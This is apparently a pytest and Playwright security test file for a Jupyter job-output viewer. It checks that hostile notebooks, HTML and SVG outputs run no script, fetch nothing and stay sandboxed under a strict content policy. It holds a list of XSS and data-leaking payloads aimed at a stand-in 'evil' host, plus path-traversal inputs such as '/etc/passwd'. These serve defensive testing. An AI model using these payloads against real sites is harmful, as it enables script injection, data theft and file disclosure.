"""Whatever a run wrote: looking at it runs nothing, and asks nobody for anything."""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from manatee_lab._pages import page_of
from playwright.sync_api import Page, expect

from ._browser import open_job
from ._lab import Lab

EVIL = "http://127.0.0.1:{port}"
"""Stands for any address outside: a listener of the test that must hear nothing."""

ATTACKS = {
    "img": '<img src="{evil}/img">',
    "img onerror": "<img src=x onerror=\"parent.document.title='ran'\">",
    "svg onload": "<svg onload=\"top.document.title='ran'\"><image href='{evil}/svg'/></svg>",
    "script": "<script>fetch('{evil}/fetch'); document.title='ran'</script>",
    "script src": '<script src="{evil}/script.js"></script>',
    "iframe": '<iframe src="{evil}/frame" srcdoc="<script>top.x=1</script>"></iframe>',
    "css url": '<style>b{{background:url({evil}/c)}}</style><b style="background:url({evil}/b)">',
    "css import": '<style>@import "{evil}/import.css";</style>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={evil}/meta">',
    "link": '<link rel="stylesheet" href="{evil}/link.css"><link rel="prefetch" href="{evil}/p">',
    "base": '<base href="{evil}/"><img src="relative">',
    "object": '<object data="{evil}/object"></object><embed src="{evil}/embed">',
    "video": '<video poster="{evil}/poster" src="{evil}/video" autoplay></video>',
    "form": '<form action="{evil}/form"><input autofocus onfocus="this.form.submit()"></form>',
    "javascript link": "<a href=\"javascript:top.document.title='ran'\">press</a>",
    "srcset": '<img srcset="{evil}/srcset 1x"><picture><source srcset="{evil}/source"></picture>',
    "unclosed": "<scr<script>ipt>top.document.title='ran'</scr</script>ipt><img src={evil}/open",
    "math": '<math><mtext><style><img src="{evil}/math"></style></mtext></math>',
    "template": '<template><img src="{evil}/t"></template>',
    "noscript": '<noscript><img src="{evil}/n"></noscript>',
}


@pytest.fixture(scope="module")
def outside() -> Iterator[tuple[str, list[str]]]:
    """An address outside, and the paths that it was asked for."""
    heard: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    Thread(target=server.serve_forever, daemon=True).start()
    yield EVIL.format(port=server.server_address[1]), heard
    server.shutdown()
    server.server_close()


def hostile_notebook(evil: str) -> bytes:
    """Return a notebook that tries everything, in every place where HTML could be."""
    outputs: list[dict[str, Any]] = []
    for text in ATTACKS.values():
        markup = text.format(evil=evil)
        for kind in ("text/html", "image/svg+xml", "text/markdown", "application/javascript"):
            data = {kind: markup}
            outputs.append({"output_type": "display_data", "metadata": {}, "data": data})
        outputs.append({"output_type": "stream", "name": "stdout", "text": markup})
    widget = {"model_id": "0" * 32, "version_major": 2, "version_minor": 0}
    for data in (
        {"application/vnd.jupyter.widget-view+json": widget},
        {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": evil}]}}},
        {"text/latex": rf"$\href{{{evil}/latex}}{{press}} \includegraphics{{{evil}/tex}}$"},
        {"image/png": '"><script>top.document.title="ran"</script>'},
    ):
        outputs.append({"output_type": "display_data", "metadata": {}, "data": data})
    markdown = "\n\n".join(
        [f"![picture]({evil}/markdown)", f"[press]({evil}/press)", f"<{evil}/auto>"]
        + [text.format(evil=evil) for text in ATTACKS.values()]
    )
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}}},
            "cells": [
                {"cell_type": "markdown", "metadata": {}, "source": markdown},
                {"cell_type": "raw", "metadata": {}, "source": markdown},
                {
                    "cell_type": "code",
                    "metadata": {},
                    "execution_count": 1,
                    "source": "</pre><script>top.document.title='ran'</script>",
                    "outputs": outputs,
                },
            ],
        }
    ).encode()


@pytest.fixture
def hostile(lab: Lab, released: str, page: Page, outside: tuple[str, list[str]]) -> Iterator[str]:
    """A released job among whose opened outputs there are hostile files."""
    evil, _ = outside
    open_job(page, released).get_by_role("tab", name="Outputs").click()
    page.locator("iframe").wait_for()  # fetched and opened by now
    folder = lab.desk / "runs" / released / "outputs"
    kept = folder.with_name("kept")
    shutil.copytree(folder, kept)
    (folder / "notebook.ipynb").write_bytes(hostile_notebook(evil))
    (folder / "page.html").write_text("".join(ATTACKS.values()).replace("{evil}", evil))
    (folder / "picture.svg").write_text(ATTACKS["svg onload"].format(evil=evil))
    yield released
    shutil.rmtree(folder)
    kept.rename(folder)


def test_hostile_outputs_run_nothing_and_fetch_nothing(
    page: Page, hostile: str, outside: tuple[str, list[str]]
) -> None:
    evil, heard = outside
    requests: list[str] = []
    page.context.on("request", lambda request: requests.append(request.url))
    page.reload()
    page.wait_for_selector("#manatee-panel", state="attached")
    job_page = open_job(page, hostile)
    job_page.get_by_role("tab", name="Outputs").click()
    for name in ("notebook.ipynb", "page.html", "picture.svg"):
        job_page.get_by_role("button", name=name).click()
        frame = page.frame_locator("iframe")
        expect(frame.locator("body")).not_to_be_empty()
        page.wait_for_timeout(400)
        for index in range(frame.locator("a, button, input").count()):
            frame.locator("a, button, input").nth(index).click(timeout=5000)
    assert page.title() != "ran"
    assert [url for url in requests if evil in url] == []
    assert heard == []


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_page_is_harmless_even_without_its_policy(
    browser: Any, lab: Lab, attack: str, outside: tuple[str, list[str]], tmp_path: Path
) -> None:
    evil, heard = outside
    data = hostile_notebook(evil) if attack == "img" else _one(ATTACKS[attack].format(evil=evil))
    markup = page_of("x.ipynb", data).decode()
    context = browser.new_context()
    opened = context.new_page()
    asked: list[str] = []
    opened.on("request", lambda request: asked.append(request.url))
    opened.set_content(markup)  # no sandbox, no policy: the page alone
    opened.wait_for_timeout(50)
    assert opened.title() == "x.ipynb"
    assert [url for url in asked if not url.startswith("data:")] == []
    assert (
        opened.locator("a, script, iframe, object, form, svg, link, meta[http-equiv]").count() == 0
    )
    context.close()
    assert heard == []


def _one(markup: str) -> bytes:
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": markup}}
    cell = {"cell_type": "code", "metadata": {}, "source": "", "outputs": [output]}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "cells": [cell]}).encode()


def test_the_viewer_is_sandboxed_twice(page: Page, released: str) -> None:
    job_page = open_job(page, released)
    job_page.get_by_role("tab", name="Outputs").click()
    frame = job_page.locator("iframe")
    assert frame.get_attribute("sandbox") == ""
    answer = page.request.get(str(frame.get_attribute("src")))
    policy = answer.headers["content-security-policy"]
    assert answer.headers["content-type"].startswith("text/html")
    assert policy.startswith("sandbox; default-src 'none';")
    assert "script-src" not in policy


def test_a_download_is_never_shown(page: Page, lab: Lab, released: str) -> None:
    open_job(page, released)
    base = lab.url.split("/lab")[0]
    answer = page.request.get(f"{base}/manatee/jobs/{released}/file?path=notebook.ipynb")
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert answer.headers["content-type"] == "application/octet-stream"


def test_a_path_out_of_the_outputs_is_not_found(page: Page, lab: Lab, released: str) -> None:
    open_job(page, released)
    base = lab.url.split("/lab")[0]
    for path in ("../run.dsse.json", "/etc/passwd", "..%2f..%2fidentity.json", ""):
        answer = page.request.get(f"{base}/manatee/jobs/{released}/file?path={path}")
        assert answer.status == 404, path


def test_a_picture_is_only_ever_its_own_bytes() -> None:
    data = b'"><script>alert(1)</script>'
    markup = page_of("a.png", data).decode()
    assert "<script" not in markup
    assert base64.b64encode(data).decode() in markup
